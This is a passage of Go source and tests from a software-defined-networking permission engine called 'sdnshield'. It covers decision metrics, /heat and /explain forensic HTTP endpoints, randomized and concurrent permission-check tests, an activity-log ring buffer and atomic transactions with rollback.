	// Calls carrying an unknown/zero token (e.g. malformed manifests) fall
	// into a catch-all series rather than being dropped.
	unknownAllow := obs.Default().Counter("sdnshield_permengine_checks_total",
		"Permission checks by token and decision.", "token", "unknown", "decision", "allow")
	unknownDeny := obs.Default().Counter("sdnshield_permengine_checks_total",
		"Permission checks by token and decision.", "token", "unknown", "decision", "deny")
	for i := range mChecksAllow {
		if mChecksAllow[i] == nil {
			mChecksAllow[i] = unknownAllow
			mChecksDeny[i] = unknownDeny
		}
	}
}

// countCheck bumps the decision counter for one checked call.
func countCheck(tok core.Token, allowed bool) {
	i := int(tok) % maxTokenSlots
	if allowed {
		mChecksAllow[i].Inc()
		return
	}
	mChecksDeny[i].Inc()
}
