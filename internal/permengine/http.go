package permengine

// The decision-heat and forensics surfaces mount onto every obs
// introspection endpoint via the extension-route registry, like /audit
// and /trace:
//
//	/heat               — per-engine decision-heat profiles (JSON export)
//	/explain?corr=<id>  — re-explain a retained denial by correlation ID
//	/explain (GET)      — index of retained denials
//	/explain (POST)     — explain a hypothetical call described in JSON
//
// Engines appear under the names they registered with (RegisterEngine);
// ?engine=<name> narrows any request to one engine.

import (
	"encoding/json"
	"fmt"
	"net/http"
	"sort"
	"strconv"
	"strings"

	"sdnshield/internal/core"
	"sdnshield/internal/obs"
	"sdnshield/internal/obs/audit"
	"sdnshield/internal/of"
)

func init() {
	obs.RegisterHandler("/heat", http.HandlerFunc(handleHeat))
	obs.RegisterHandler("/explain", http.HandlerFunc(handleExplain))
}

// selectEngines resolves the ?engine= query parameter against the
// registry; an empty name selects every registered engine.
func selectEngines(name string) (map[string]*Engine, error) {
	all := RegisteredEngines()
	if name == "" {
		return all, nil
	}
	e, ok := all[name]
	if !ok {
		return nil, fmt.Errorf("unknown engine %q", name)
	}
	return map[string]*Engine{name: e}, nil
}

func handleHeat(w http.ResponseWriter, r *http.Request) {
	engines, err := selectEngines(r.URL.Query().Get("engine"))
	if err != nil {
		httpError(w, http.StatusNotFound, err.Error())
		return
	}
	out := struct {
		Enabled       bool                   `json:"enabled"`
		SamplingEvery int                    `json:"sampling_every"`
		Engines       map[string]HeatProfile `json:"engines"`
	}{HeatEnabled(), HeatSampling(), make(map[string]HeatProfile, len(engines))}
	app := r.URL.Query().Get("app")
	for name, e := range engines {
		p := e.HeatSnapshot()
		if app != "" {
			kept := p.Apps[:0:0]
			for _, ah := range p.Apps {
				if ah.App == app {
					kept = append(kept, ah)
				}
			}
			p.Apps = kept
		}
		out.Engines[name] = p
	}
	writeJSON(w, out)
}

func handleExplain(w http.ResponseWriter, r *http.Request) {
	switch r.Method {
	case http.MethodGet:
		handleExplainGet(w, r)
	case http.MethodPost:
		handleExplainPost(w, r)
	default:
		httpError(w, http.StatusMethodNotAllowed, "GET or POST")
	}
}

// explainResponse wraps an explanation with the audit events sharing its
// correlation ID — the cross-link from "what was decided" back to "what
// else happened on this call".
type explainResponse struct {
	Engine      string        `json:"engine"`
	Explanation Explanation   `json:"explanation"`
	AuditTrail  []audit.Event `json:"audit_trail,omitempty"`
}

func handleExplainGet(w http.ResponseWriter, r *http.Request) {
	engines, err := selectEngines(r.URL.Query().Get("engine"))
	if err != nil {
		httpError(w, http.StatusNotFound, err.Error())
		return
	}
	corrStr := r.URL.Query().Get("corr")
	if corrStr == "" {
		// Index: retained denials per engine, newest first.
		type engineDenials struct {
			Engine  string               `json:"engine"`
			Denials []RetainedDenialInfo `json:"denials"`
		}
		out := struct {
			Engines []engineDenials `json:"engines"`
		}{}
		names := make([]string, 0, len(engines))
		for n := range engines {
			names = append(names, n)
		}
		sort.Strings(names)
		for _, n := range names {
			d := engines[n].RetainedDenials(64)
			if d == nil {
				d = []RetainedDenialInfo{}
			}
			out.Engines = append(out.Engines, engineDenials{Engine: n, Denials: d})
		}
		writeJSON(w, out)
		return
	}
	corr, err := strconv.ParseUint(corrStr, 10, 64)
	if err != nil || corr == 0 {
		httpError(w, http.StatusBadRequest, "bad corr")
		return
	}
	names := make([]string, 0, len(engines))
	for n := range engines {
		names = append(names, n)
	}
	sort.Strings(names)
	for _, n := range names {
		e := engines[n]
		call, ok := e.RetainedDenial(corr)
		if !ok {
			continue
		}
		writeJSON(w, explainResponse{
			Engine:      n,
			Explanation: e.Explain(call),
			AuditTrail:  audit.Default().Query(audit.Filter{Corr: corr}),
		})
		return
	}
	httpError(w, http.StatusNotFound, "no retained denial with that corr")
}

// callSpec is the POST body describing a hypothetical call. Match values
// accept decimal/hex integers or dotted-quad IPv4; "value/mask" sets an
// explicit mask ("a.b.c.d/len" works for IP fields).
type callSpec struct {
	Engine     string            `json:"engine"`
	App        string            `json:"app"`
	Token      string            `json:"token"`
	Corr       uint64            `json:"corr"`
	DPID       *uint64           `json:"dpid"`
	Match      map[string]string `json:"match"`
	Actions    []string          `json:"actions"`
	Priority   *uint16           `json:"priority"`
	FromPktIn  *bool             `json:"from_pkt_in"`
	StatsLevel string            `json:"stats_level"`
	HostIP     string            `json:"host_ip"`
	HostPort   uint16            `json:"host_port"`
	Path       string            `json:"path"`
	Event      string            `json:"event"`
	Switches   []uint64          `json:"switches"`
	Links      [][2]uint64       `json:"links"`
	// FlowOwner and RuleCount pin the stateful attributes instead of
	// resolving them from the live shadow tables.
	FlowOwner *string `json:"flow_owner"`
	RuleCount *int    `json:"rule_count"`
}

func handleExplainPost(w http.ResponseWriter, r *http.Request) {
	var spec callSpec
	if err := json.NewDecoder(http.MaxBytesReader(w, r.Body, 1<<20)).Decode(&spec); err != nil {
		httpError(w, http.StatusBadRequest, "bad json: "+err.Error())
		return
	}
	engines, err := selectEngines(spec.Engine)
	if err != nil {
		httpError(w, http.StatusNotFound, err.Error())
		return
	}
	if len(engines) != 1 {
		if len(engines) == 0 {
			httpError(w, http.StatusNotFound, "no engine registered")
			return
		}
		// Ambiguous: several engines and none named.
		names := make([]string, 0, len(engines))
		for n := range engines {
			names = append(names, n)
		}
		sort.Strings(names)
		httpError(w, http.StatusBadRequest, "several engines registered; set \"engine\" to one of: "+strings.Join(names, ", "))
		return
	}
	call, err := spec.toCall()
	if err != nil {
		httpError(w, http.StatusBadRequest, err.Error())
		return
	}
	for n, e := range engines {
		resp := explainResponse{Engine: n, Explanation: e.Explain(call)}
		if call.Corr != 0 {
			resp.AuditTrail = audit.Default().Query(audit.Filter{Corr: call.Corr})
		}
		writeJSON(w, resp)
	}
}

func (s *callSpec) toCall() (*core.Call, error) {
	if s.App == "" {
		return nil, fmt.Errorf("missing app")
	}
	tok, ok := core.ParseToken(s.Token)
	if !ok {
		return nil, fmt.Errorf("unknown token %q", s.Token)
	}
	call := &core.Call{App: s.App, Token: tok, Corr: s.Corr, Path: s.Path, HostPort: s.HostPort}
	if s.DPID != nil {
		call.DPID = of.DPID(*s.DPID)
		call.HasDPID = true
	}
	if s.Priority != nil {
		call.Priority = *s.Priority
		call.HasPriority = true
	}
	if len(s.Match) > 0 {
		m := of.NewMatch()
		for name, val := range s.Match {
			f, ok := of.ParseField(name)
			if !ok {
				return nil, fmt.Errorf("unknown match field %q", name)
			}
			v, mask, err := parseFieldValue(f, val)
			if err != nil {
				return nil, fmt.Errorf("match field %s: %w", name, err)
			}
			m.SetMasked(f, v, mask)
		}
		call.Match = m
	}
	for _, a := range s.Actions {
		act, err := parseAction(a)
		if err != nil {
			return nil, err
		}
		call.Actions = append(call.Actions, act)
	}
	if s.FromPktIn != nil {
		call.FromPktIn = *s.FromPktIn
		call.HasProvenance = true
	}
	switch strings.ToUpper(s.StatsLevel) {
	case "":
	case "FLOW":
		call.StatsLevel = of.StatsFlow
	case "PORT":
		call.StatsLevel = of.StatsPort
	case "SWITCH":
		call.StatsLevel = of.StatsSwitch
	default:
		return nil, fmt.Errorf("unknown stats level %q", s.StatsLevel)
	}
	if s.HostIP != "" {
		ip, err := parseIPv4(s.HostIP)
		if err != nil {
			return nil, fmt.Errorf("host_ip: %w", err)
		}
		call.HostIP = ip
		call.HasHostIP = true
	}
	for _, d := range s.Switches {
		call.Switches = append(call.Switches, of.DPID(d))
	}
	for _, l := range s.Links {
		call.Links = append(call.Links, core.NewLinkID(of.DPID(l[0]), of.DPID(l[1])))
	}
	switch strings.ToUpper(s.Event) {
	case "":
	case "OBSERVE":
		call.Event = core.CallbackObserve
	case "EVENT_INTERCEPTION", "INTERCEPT":
		call.Event = core.CallbackIntercept
	case "MODIFY_EVENT_ORDER", "REORDER":
		call.Event = core.CallbackReorder
	default:
		return nil, fmt.Errorf("unknown event op %q", s.Event)
	}
	if s.FlowOwner != nil {
		call.FlowOwner = *s.FlowOwner
		call.HasFlowOwner = true
	}
	if s.RuleCount != nil {
		call.RuleCount = *s.RuleCount
		call.HasRuleCount = true
	}
	return call, nil
}

// parseFieldValue parses "value" or "value/mask". Values are decimal or
// 0x-hex integers, or dotted-quad IPv4; an IP's mask may be a prefix
// length.
func parseFieldValue(f of.Field, s string) (value, mask uint64, err error) {
	valStr, maskStr := s, ""
	if i := strings.IndexByte(s, '/'); i >= 0 {
		valStr, maskStr = s[:i], s[i+1:]
	}
	value, err = parseScalar(valStr)
	if err != nil {
		return 0, 0, err
	}
	if maskStr == "" {
		return value, of.FullMask(f), nil
	}
	if !strings.Contains(maskStr, ".") {
		if n, perr := strconv.ParseUint(maskStr, 10, 8); perr == nil && n <= uint64(of.FieldBits(f)) && strings.Contains(valStr, ".") {
			return value, uint64(of.PrefixMask(int(n))), nil
		}
	}
	mask, err = parseScalar(maskStr)
	if err != nil {
		return 0, 0, err
	}
	return value, mask, nil
}

func parseScalar(s string) (uint64, error) {
	if strings.Contains(s, ".") {
		ip, err := parseIPv4(s)
		return uint64(ip), err
	}
	return strconv.ParseUint(s, 0, 64)
}

func parseIPv4(s string) (of.IPv4, error) {
	parts := strings.Split(s, ".")
	if len(parts) != 4 {
		return 0, fmt.Errorf("bad IPv4 %q", s)
	}
	var oct [4]byte
	for i, p := range parts {
		n, err := strconv.ParseUint(p, 10, 8)
		if err != nil {
			return 0, fmt.Errorf("bad IPv4 %q", s)
		}
		oct[i] = byte(n)
	}
	return of.IPv4FromOctets(oct[0], oct[1], oct[2], oct[3]), nil
}

// parseAction parses "OUTPUT:<port>", "DROP", "FLOOD" or
// "MODIFY:<field>:<value>".
func parseAction(s string) (of.Action, error) {
	parts := strings.Split(s, ":")
	switch strings.ToUpper(parts[0]) {
	case "OUTPUT":
		if len(parts) != 2 {
			return of.Action{}, fmt.Errorf("action %q: want OUTPUT:<port>", s)
		}
		port, err := strconv.ParseUint(parts[1], 10, 16)
		if err != nil {
			return of.Action{}, fmt.Errorf("action %q: bad port", s)
		}
		return of.Output(uint16(port)), nil
	case "DROP":
		return of.Drop(), nil
	case "FLOOD":
		return of.Flood(), nil
	case "MODIFY", "SET":
		if len(parts) != 3 {
			return of.Action{}, fmt.Errorf("action %q: want MODIFY:<field>:<value>", s)
		}
		f, ok := of.ParseField(parts[1])
		if !ok {
			return of.Action{}, fmt.Errorf("action %q: unknown field", s)
		}
		v, err := parseScalar(parts[2])
		if err != nil {
			return of.Action{}, fmt.Errorf("action %q: bad value", s)
		}
		return of.SetField(f, v), nil
	default:
		return of.Action{}, fmt.Errorf("unknown action %q", s)
	}
}

func httpError(w http.ResponseWriter, code int, msg string) {
	w.Header().Set("Content-Type", "application/json")
	w.WriteHeader(code)
	_ = json.NewEncoder(w).Encode(struct {
		Error string `json:"error"`
	}{msg})
}

func writeJSON(w http.ResponseWriter, v interface{}) {
	w.Header().Set("Content-Type", "application/json")
	enc := json.NewEncoder(w)
	enc.SetIndent("", "  ")
	_ = enc.Encode(v)
}
