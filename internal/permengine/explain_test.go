package permengine

import (
	"math/rand"
	"strings"
	"testing"

	"sdnshield/internal/core"
	"sdnshield/internal/of"
	"sdnshield/internal/permlang"
)

// TestExplainAgreesWithCheckProperty is the forensic-consistency
// property: on random filter trees and random calls, Explain's verdict
// must agree with the engine's Check verdict, and every filter_rejected
// denial must name at least one concrete failing clause with at least
// one concretely failing filter leaf.
func TestExplainAgreesWithCheckProperty(t *testing.T) {
	r := rand.New(rand.NewSource(7))
	pool := []core.Filter{
		core.NewPredFilter(of.FieldIPDst, uint64(of.IPv4FromOctets(10, 13, 0, 0)), uint64(of.PrefixMask(16))),
		core.NewActionFilter(core.ActionClassForward),
		core.NewOwnerFilter(true),
		core.NewMaxPriorityFilter(50),
		core.NewPktOutFilter(false),
		core.NewStatsFilter(of.StatsPort),
	}
	var build func(depth int) core.Expr
	build = func(depth int) core.Expr {
		if depth == 0 || r.Intn(3) == 0 {
			return core.NewLeaf(pool[r.Intn(len(pool))])
		}
		switch r.Intn(3) {
		case 0:
			return &core.And{L: build(depth - 1), R: build(depth - 1)}
		case 1:
			return &core.Or{L: build(depth - 1), R: build(depth - 1)}
		default:
			return &core.Not{X: build(depth - 1)}
		}
	}
	for i := 0; i < 2000; i++ {
		// A fresh engine per policy; conjoin up to three random subtrees
		// so the clause decomposition is exercised, not just one clause.
		expr := build(2)
		for extra := r.Intn(3); extra > 0; extra-- {
			expr = &core.And{L: expr, R: build(2)}
		}
		e := New(nil)
		e.SetPermissions("me", core.NewSetOf(core.Permission{Token: core.TokenInsertFlow, Filter: expr}))
		call := &core.Call{
			App:           "me",
			Token:         core.TokenInsertFlow,
			DPID:          1,
			HasDPID:       true,
			Match:         of.NewMatch().Set(of.FieldIPDst, uint64(of.IPv4FromOctets(10, byte(13+r.Intn(2)), 0, 1))),
			Actions:       [][]of.Action{{of.Output(1)}, {of.Drop()}, {}}[r.Intn(3)],
			Priority:      uint16(r.Intn(100)),
			HasPriority:   true,
			FlowOwner:     []string{"me", "other", ""}[r.Intn(3)],
			HasFlowOwner:  true,
			FromPktIn:     r.Intn(2) == 0,
			HasProvenance: true,
			StatsLevel:    []of.StatsType{of.StatsFlow, of.StatsPort, of.StatsSwitch}[r.Intn(3)],
		}
		checkErr := e.Check(call)
		ex := e.Explain(call)
		if ex.Allowed != (checkErr == nil) {
			t.Fatalf("Explain.Allowed=%v but Check err=%v on %s for %s", ex.Allowed, checkErr, expr, call)
		}
		if ex.Allowed {
			if ex.Reason != ReasonAllowed || len(ex.FailingClauses) != 0 {
				t.Fatalf("allowed explanation carries reason %q, failing clauses %v", ex.Reason, ex.FailingClauses)
			}
			continue
		}
		if ex.Reason != ReasonFilterRejected {
			t.Fatalf("denial reason = %q, want %q", ex.Reason, ReasonFilterRejected)
		}
		if len(ex.FailingClauses) == 0 {
			t.Fatalf("denial names no failing clause: %+v", ex)
		}
		fc := ex.Clauses[ex.FailingClauses[0]]
		if !fc.Evaluated || fc.Passed || fc.Expr == "" {
			t.Fatalf("failing clause not concrete: %+v", fc)
		}
		// With negation pushed to the leaves the clause is a monotone
		// function of the effective leaf values, so a false clause must
		// contain at least one ineffective leaf — the concrete filter
		// that rejected the call.
		ineffective := 0
		for _, lf := range fc.Leaves {
			if !lf.Effective {
				ineffective++
			}
		}
		if ineffective == 0 {
			t.Fatalf("failing clause %q has no ineffective leaf: %+v", fc.Expr, fc.Leaves)
		}
	}
}

// TestExplainShortCircuitMarking: clauses after the first failure are
// reported as short-circuited, never as passed or failed.
func TestExplainShortCircuitMarking(t *testing.T) {
	e := New(nil)
	e.SetPermissions("m", permlang.MustParse(
		"PERM insert_flow LIMITING MAX_PRIORITY 10 AND ACTION FORWARD").Set())
	call := insertFlowCall("m", of.IPv4FromOctets(10, 0, 0, 1), []of.Action{of.Output(1)})
	call.Priority = 200 // fails clause 0; clause 1 would pass
	if err := e.Check(call); err == nil {
		t.Fatal("call must be denied")
	}
	ex := e.Explain(call)
	if ex.Allowed || len(ex.Clauses) != 2 {
		t.Fatalf("unexpected explanation: %+v", ex)
	}
	if !ex.Clauses[0].Evaluated || ex.Clauses[0].Passed {
		t.Fatalf("clause 0 should have evaluated and failed: %+v", ex.Clauses[0])
	}
	if ex.Clauses[1].Evaluated || !ex.Clauses[1].ShortCircuited {
		t.Fatalf("clause 1 should be short-circuited: %+v", ex.Clauses[1])
	}
}

func TestExplainNoManifestAndUngranted(t *testing.T) {
	e := New(nil)
	ex := e.Explain(&core.Call{App: "ghost", Token: core.TokenInsertFlow})
	if ex.Allowed || ex.Reason != ReasonNoManifest {
		t.Fatalf("no-manifest explanation: %+v", ex)
	}
	e.SetPermissions("m", permlang.MustParse("PERM read_statistics").Set())
	ex = e.Explain(&core.Call{App: "m", Token: core.TokenInsertFlow})
	if ex.Allowed || ex.Reason != ReasonTokenUngranted {
		t.Fatalf("ungranted explanation: %+v", ex)
	}
	if len(ex.Granted) != 1 || ex.Granted[0] != core.TokenReadStatistics.String() {
		t.Fatalf("granted list = %v", ex.Granted)
	}
}

// TestExplainDenialRetention: a denied call carrying a correlation ID
// is retained (deep-copied) and recoverable by corr, so /explain can
// re-evaluate the exact call behind an audit denial.
func TestExplainDenialRetention(t *testing.T) {
	e := New(nil)
	e.SetPermissions("m", permlang.MustParse("PERM read_statistics LIMITING PORT_LEVEL").Set())
	call := &core.Call{App: "m", Token: core.TokenReadStatistics, StatsLevel: of.StatsFlow, Corr: 4242}
	if err := e.Check(call); err == nil {
		t.Fatal("call must be denied")
	}
	// Mutate the original after the check: the retained copy must not
	// follow (forensics needs the call as it was denied).
	call.StatsLevel = of.StatsPort
	got, ok := e.RetainedDenial(4242)
	if !ok {
		t.Fatal("denial with corr not retained")
	}
	if got.StatsLevel != of.StatsFlow {
		t.Fatalf("retained call mutated: stats level %v", got.StatsLevel)
	}
	ex := e.Explain(got)
	if ex.Allowed || ex.Reason != ReasonFilterRejected {
		t.Fatalf("re-evaluated retained denial: %+v", ex)
	}
	if _, ok := e.RetainedDenial(9999); ok {
		t.Fatal("unknown corr must not resolve")
	}
	// Corr 0 (no audit correlation) is never retained.
	before := len(e.RetainedDenials(0))
	if err := e.Check(&core.Call{App: "m", Token: core.TokenReadStatistics, StatsLevel: of.StatsFlow}); err == nil {
		t.Fatal("call must be denied")
	}
	if got := len(e.RetainedDenials(0)); got != before {
		t.Fatalf("corr-0 denial retained: %d -> %d", before, got)
	}
}

// TestExplainDecidingRepair: when reconciliation provenance mentions
// the failing clause, the explanation names the repair that introduced
// the deciding term.
func TestExplainDecidingRepair(t *testing.T) {
	e := New(nil)
	e.SetPermissions("m", permlang.MustParse("PERM insert_flow LIMITING MAX_PRIORITY 10").Set())
	e.SetProvenance("m", []string{
		"[narrowed] priority bound: manifest requested unbounded priority (repaired: MAX_PRIORITY 10)",
	})
	call := insertFlowCall("m", of.IPv4FromOctets(10, 0, 0, 1), []of.Action{of.Output(1)})
	call.Priority = 200
	if err := e.Check(call); err == nil {
		t.Fatal("call must be denied")
	}
	ex := e.Explain(call)
	if ex.DecidingRepair == "" {
		t.Fatalf("deciding repair not identified; provenance %v, failing %v", ex.Provenance, ex.FailingClauses)
	}
	if !strings.Contains(ex.DecidingRepair, "MAX_PRIORITY 10") {
		t.Fatalf("deciding repair = %q", ex.DecidingRepair)
	}
	// RemoveApp clears provenance with the rest of the app state.
	e.RemoveApp("m")
	if notes := e.Provenance("m"); notes != nil {
		t.Fatalf("provenance survives RemoveApp: %v", notes)
	}
}
