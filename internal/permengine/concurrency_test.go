package permengine

import (
	"sync"
	"testing"

	"sdnshield/internal/core"
	"sdnshield/internal/of"
	"sdnshield/internal/permlang"
)

// TestConcurrentChecksAndUpdates hammers the engine with parallel checks
// while permissions are replaced and revoked — the "permission engine
// scales out with parallelism" property plus live permission updates.
func TestConcurrentChecksAndUpdates(t *testing.T) {
	e := New(nil, WithActivityLog(1024))
	narrow := permlang.MustParse("PERM insert_flow LIMITING ACTION FORWARD").Set()
	wide := permlang.MustParse("PERM insert_flow").Set()
	e.SetPermissions("app", narrow)

	forward := func() *core.Call {
		return &core.Call{
			App: "app", Token: core.TokenInsertFlow,
			DPID: 1, HasDPID: true,
			Match:        of.NewMatch().Set(of.FieldTPDst, 80),
			Actions:      []of.Action{of.Output(1)},
			HasFlowOwner: true,
		}
	}
	drop := func() *core.Call {
		c := forward()
		c.Actions = []of.Action{of.Drop()}
		return c
	}

	var wg sync.WaitGroup
	for w := 0; w < 8; w++ {
		wg.Add(1)
		go func() {
			defer wg.Done()
			for i := 0; i < 2000; i++ {
				// Forward rules are allowed under every installed set.
				if err := e.Check(forward()); err != nil {
					// Only permissible failure: the updater briefly
					// removed the app.
					var denied *DeniedError
					if !asDenied(err, &denied) {
						t.Errorf("unexpected error type: %v", err)
						return
					}
				}
				//nolint:errcheck // drop calls may or may not be denied
				e.Check(drop())
			}
		}()
	}
	wg.Add(1)
	go func() {
		defer wg.Done()
		for i := 0; i < 500; i++ {
			switch i % 3 {
			case 0:
				e.SetPermissions("app", wide)
			case 1:
				e.SetPermissions("app", narrow)
			default:
				e.HasToken("app", core.TokenInsertFlow)
				e.Permissions("app")
			}
		}
	}()
	wg.Wait()

	checks, denials := e.Stats()
	if checks == 0 || denials == 0 {
		t.Errorf("stats = (%d, %d)", checks, denials)
	}
	if e.Log().Total() != checks {
		t.Errorf("log total %d != checks %d", e.Log().Total(), checks)
	}
}

func asDenied(err error, target **DeniedError) bool {
	d, ok := err.(*DeniedError)
	if ok {
		*target = d
	}
	return ok
}

// TestRevocationTakesEffect verifies that removing an app's permissions
// denies subsequent calls immediately.
func TestRevocationTakesEffect(t *testing.T) {
	e := New(nil)
	e.SetPermissions("app", permlang.MustParse("PERM read_statistics").Set())
	call := &core.Call{App: "app", Token: core.TokenReadStatistics, StatsLevel: of.StatsPort}
	if err := e.Check(call); err != nil {
		t.Fatalf("pre-revocation check failed: %v", err)
	}
	e.RemoveApp("app")
	if err := e.Check(call); err == nil {
		t.Fatal("revoked app still allowed")
	}
}
