package permengine

import (
	"fmt"
	"sync"
	"time"

	"sdnshield/internal/core"
)

// ActivityRecord is one logged permission decision, the raw material of
// the forensic analysis §VII's third protection level describes.
type ActivityRecord struct {
	Time    time.Time
	App     string
	Token   core.Token
	Allowed bool
	Detail  string
}

// String renders the record for audit output.
func (r ActivityRecord) String() string {
	verdict := "ALLOW"
	if !r.Allowed {
		verdict = "DENY"
	}
	return fmt.Sprintf("%s %s app=%s token=%s %s",
		r.Time.Format(time.RFC3339Nano), verdict, r.App, r.Token, r.Detail)
}

// ActivityLog is a bounded ring buffer of permission decisions.
type ActivityLog struct {
	mu    sync.Mutex
	buf   []ActivityRecord
	next  int
	total uint64
	now   func() time.Time
}

// NewActivityLog builds a log holding the most recent capacity records.
func NewActivityLog(capacity int) *ActivityLog {
	if capacity < 1 {
		capacity = 1
	}
	return &ActivityLog{buf: make([]ActivityRecord, 0, capacity), now: time.Now}
}

// Record appends a decision.
func (l *ActivityLog) Record(call *core.Call, allowed bool) {
	l.mu.Lock()
	defer l.mu.Unlock()
	rec := ActivityRecord{
		Time:    l.now(),
		App:     call.App,
		Token:   call.Token,
		Allowed: allowed,
		Detail:  call.String(),
	}
	if len(l.buf) < cap(l.buf) {
		l.buf = append(l.buf, rec)
	} else {
		l.buf[l.next] = rec
		l.next = (l.next + 1) % cap(l.buf)
	}
	l.total++
	mActivityRecords.Inc()
}

// Total returns how many decisions were ever recorded.
func (l *ActivityLog) Total() uint64 {
	l.mu.Lock()
	defer l.mu.Unlock()
	return l.total
}

// Records snapshots the retained records, oldest first.
func (l *ActivityLog) Records() []ActivityRecord {
	l.mu.Lock()
	defer l.mu.Unlock()
	out := make([]ActivityRecord, 0, len(l.buf))
	if len(l.buf) < cap(l.buf) {
		return append(out, l.buf...)
	}
	out = append(out, l.buf[l.next:]...)
	return append(out, l.buf[:l.next]...)
}

// Denials returns the retained denied-call records, oldest first.
func (l *ActivityLog) Denials() []ActivityRecord {
	return l.SnapshotFilter("", true)
}

// SnapshotFilter returns the retained records matching an app name
// ("" matches all) and, optionally, only denials — oldest first. It
// backs the /audit endpoint's fallback path when the async journal has
// no matching history.
func (l *ActivityLog) SnapshotFilter(app string, deniesOnly bool) []ActivityRecord {
	var out []ActivityRecord
	for _, r := range l.Records() {
		if app != "" && r.App != app {
			continue
		}
		if deniesOnly && r.Allowed {
			continue
		}
		out = append(out, r)
	}
	return out
}
