package permengine

import (
	"fmt"

	"sdnshield/internal/obs"
	"sdnshield/internal/obs/audit"
)

// Transaction instrumentation: commits by outcome, and rollbacks (the
// degradation signal the fault-injection harness watches for).
var (
	mTxCommits = obs.Default().Counter("sdnshield_permengine_tx_commits_total",
		"API-call transactions committed successfully.")
	mTxAborts = obs.Default().Counter("sdnshield_permengine_tx_aborts_total",
		"API-call transactions aborted at check time (no effects applied).")
	mTxRollbacks = obs.Default().Counter("sdnshield_permengine_tx_rollbacks_total",
		"API-call transactions rolled back after a mid-apply failure.")
	mTxRollbackErrors = obs.Default().Counter("sdnshield_permengine_tx_rollback_errors_total",
		"Rollback steps that themselves failed, leaving residual state.")
)

// PlannedCall is one element of an API-call transaction: the permission
// check input plus the effect and its inverse.
type PlannedCall struct {
	// Call is the permission-check view of the API call.
	Call interface{ String() string }
	// Check runs the permission check (typically Engine.Check bound to a
	// *core.Call).
	Check func() error
	// Apply executes the call's effect.
	Apply func() error
	// Revert undoes Apply; may be nil for effect-free calls.
	Revert func() error
}

// TxError reports a failed transaction: which call failed, why, and any
// rollback failures (which leave residual state an operator must see).
type TxError struct {
	// Index is the position of the failing call.
	Index int
	// Stage is "check" or "apply".
	Stage string
	// Cause is the underlying failure.
	Cause error
	// RollbackErrors collects failures while undoing applied calls.
	RollbackErrors []error
}

// Error implements error.
func (e *TxError) Error() string {
	s := fmt.Sprintf("transaction failed at call %d (%s): %v", e.Index, e.Stage, e.Cause)
	if len(e.RollbackErrors) > 0 {
		s += fmt.Sprintf(" (%d rollback errors)", len(e.RollbackErrors))
	}
	return s
}

// Unwrap exposes the underlying cause for errors.Is/As.
func (e *TxError) Unwrap() error { return e.Cause }

// Tx groups semantically related API calls to be issued atomically
// (§VI-B2): the transaction executes only if every call passes permission
// checking, and a mid-apply failure rolls back the applied prefix.
type Tx struct {
	calls []PlannedCall
	app   string
	corr  uint64
}

// NewTx returns an empty transaction.
func NewTx() *Tx { return &Tx{} }

// SetOrigin attributes the transaction's audit events to an app and the
// correlation ID of the mediated call that opened it.
func (t *Tx) SetOrigin(app string, corr uint64) *Tx {
	t.app = app
	t.corr = corr
	return t
}

// auditTx records a transaction outcome in the forensic journal.
func (t *Tx) auditTx(v audit.Verdict, detail string) {
	if !audit.On() {
		return
	}
	audit.Emit(audit.Event{
		Kind:    audit.KindTx,
		Verdict: v,
		App:     t.app,
		Corr:    t.corr,
		Detail:  detail,
	})
}

// Add appends a planned call.
func (t *Tx) Add(c PlannedCall) *Tx {
	t.calls = append(t.calls, c)
	return t
}

// Len returns the number of planned calls.
func (t *Tx) Len() int { return len(t.calls) }

// Commit checks every call first, then applies them in order. A check
// failure aborts before any effect; an apply failure rolls back the
// already-applied prefix in reverse order and reports a *TxError so the
// app learns the reason for the failed call (§VI-B2).
func (t *Tx) Commit() error {
	for i, c := range t.calls {
		if c.Check == nil {
			continue
		}
		if err := c.Check(); err != nil {
			mTxAborts.Inc()
			t.auditTx(audit.VerdictAbort, fmt.Sprintf("call %d check: %v", i, err))
			return &TxError{Index: i, Stage: "check", Cause: err}
		}
	}
	applied := 0
	for i, c := range t.calls {
		if c.Apply == nil {
			applied++
			continue
		}
		if err := c.Apply(); err != nil {
			mTxRollbacks.Inc()
			txErr := &TxError{Index: i, Stage: "apply", Cause: err}
			for j := applied - 1; j >= 0; j-- {
				if revert := t.calls[j].Revert; revert != nil {
					if rerr := revert(); rerr != nil {
						mTxRollbackErrors.Inc()
						txErr.RollbackErrors = append(txErr.RollbackErrors, rerr)
					}
				}
			}
			t.auditTx(audit.VerdictRollback, fmt.Sprintf("call %d apply: %v (%d rollback errors)",
				i, err, len(txErr.RollbackErrors)))
			return txErr
		}
		applied++
	}
	mTxCommits.Inc()
	t.auditTx(audit.VerdictCommit, fmt.Sprintf("%d calls", len(t.calls)))
	return nil
}
