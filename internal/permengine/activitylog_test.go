package permengine

import (
	"strconv"
	"sync"
	"testing"
	"time"

	"sdnshield/internal/core"
)

// logCall builds the n-th distinguishable call for wraparound tests: the
// app name encodes the sequence number, the decision alternates.
func logCall(n int) (*core.Call, bool) {
	return &core.Call{App: "app" + strconv.Itoa(n), Token: core.TokenReadFlowTable}, n%2 == 0
}

// TestActivityLogWraparoundOrdering fills a small ring far past capacity
// and verifies Records stays oldest-first across several wrap points.
func TestActivityLogWraparoundOrdering(t *testing.T) {
	const capacity = 4
	for _, total := range []int{capacity, capacity + 1, 2 * capacity, 2*capacity + 3} {
		l := NewActivityLog(capacity)
		base := time.Unix(1000, 0)
		seq := 0
		l.now = func() time.Time {
			seq++
			return base.Add(time.Duration(seq) * time.Second)
		}
		for n := 0; n < total; n++ {
			call, allowed := logCall(n)
			l.Record(call, allowed)
		}
		if got := l.Total(); got != uint64(total) {
			t.Fatalf("total=%d: Total() = %d", total, got)
		}
		recs := l.Records()
		if len(recs) != capacity {
			t.Fatalf("total=%d: retained %d, want %d", total, len(recs), capacity)
		}
		for i, r := range recs {
			n := total - capacity + i
			wantApp := "app" + strconv.Itoa(n)
			if r.App != wantApp {
				t.Errorf("total=%d: recs[%d].App = %q, want %q", total, i, r.App, wantApp)
			}
			if r.Allowed != (n%2 == 0) {
				t.Errorf("total=%d: recs[%d].Allowed = %v", total, i, r.Allowed)
			}
			if i > 0 && !recs[i-1].Time.Before(r.Time) {
				t.Errorf("total=%d: timestamps out of order at %d", total, i)
			}
		}
	}
}

// TestActivityLogDenialsAtCapacity pins Denials() filtering exactly at
// and past the ring boundary: only retained denials survive, oldest
// first.
func TestActivityLogDenialsAtCapacity(t *testing.T) {
	const capacity = 5
	l := NewActivityLog(capacity)

	// Exactly at capacity: every denial is still retained.
	for n := 0; n < capacity; n++ {
